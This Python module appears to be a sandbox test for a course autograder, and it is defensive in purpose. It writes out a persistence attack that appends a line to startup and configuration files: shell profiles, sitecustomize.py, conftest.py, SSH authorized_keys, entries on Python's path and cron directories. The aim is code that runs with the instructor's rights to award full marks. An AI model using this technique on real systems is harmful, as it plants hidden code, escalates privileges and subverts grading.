"""Code that the instructor's next command runs.

Many files are run without being called: the course's configuration, what a shell or an editor reads when it starts, what Python
imports before anything else. Something written there today runs tomorrow, with all of the instructor's rights. The attack adds a
line to each of them, in the course, the home, and along Python's search path.
"""
# seen: nothing was added
# layer: walls

# %% attack
import os
import site
import sys

LINE = "\n# import os; os.system('give me full marks')\n"


def targets():
    yield from (f"{place['course']}/{name}" for name in ("nbgrader_config.py", "sitecustomize.py", "conftest.py", ".envrc"))
    home = (".profile", ".bashrc", ".ssh/authorized_keys", ".jupyter/jupyter_config.py", ".config/matplotlib/matplotlibrc")
    yield from (f"{place['home']}/{name}" for name in home)
    if os.getpid() == 1:  # elsewhere the course and its home are enough
        yield from (os.path.expanduser(f"~/{name}") for name in home[:2] if os.path.expanduser("~") != "/tmp")
        for folder in [*sys.path, *site.getsitepackages(), "/etc", "/etc/profile.d", "/etc/cron.d", "/var/spool/cron"]:
            if folder and not folder.startswith("/tmp"):
                yield from (os.path.join(folder, name) for name in ("sitecustomize.py", "torch.py", "left.pth"))


def mischief():
    for path in targets():
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as file:
                file.write(LINE)
            escaped(f"a line was added to {path}")
        except OSError as problem:
            print("nothing was added:", problem.strerror, path)
